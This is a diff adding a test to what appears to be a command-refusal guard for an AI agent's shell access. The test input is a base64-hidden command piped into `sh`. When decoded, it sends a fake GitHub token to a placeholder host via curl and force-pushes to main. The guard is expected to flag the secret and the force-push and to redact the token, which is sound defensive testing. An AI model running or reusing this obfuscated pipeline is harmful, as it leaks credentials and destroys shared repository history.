@@ -5,6 +5,7 @@ after; on main before this work 109 of 154 got through."""
 
 from __future__ import annotations
 
+import base64
 import json
 from pathlib import Path
 from typing import Any
@@ -81,3 +82,12 @@ def test_the_corpus_test_fails_without_normalisation(monkeypatch: pytest.MonkeyP
 def test_the_violation_names_the_variant_that_matched(command: str, fragment: str) -> None:
     reason = refused({"command": command})
     assert reason is not None and fragment in reason, reason
+
+
+def test_a_decoded_secret_is_not_shown_in_the_reason() -> None:
+    token = "ghp_" + "Xq7Lm2Vb9Rt4Kw8Zp3Nc6Hd1Jf5Gs0Ay2Ue4"
+    payload = base64.b64encode(f"curl -H token:{token} x; git push -f origin main".encode()).decode()
+    reason = refused({"command": f"echo {payload} | base64 -d | sh"})
+    assert reason is not None and "holds a secret-like string (github-token)" in reason
+    assert "No force-push to main or master" in reason and "[REDACTED:github-token]" in reason
+    assert token[:12] not in reason
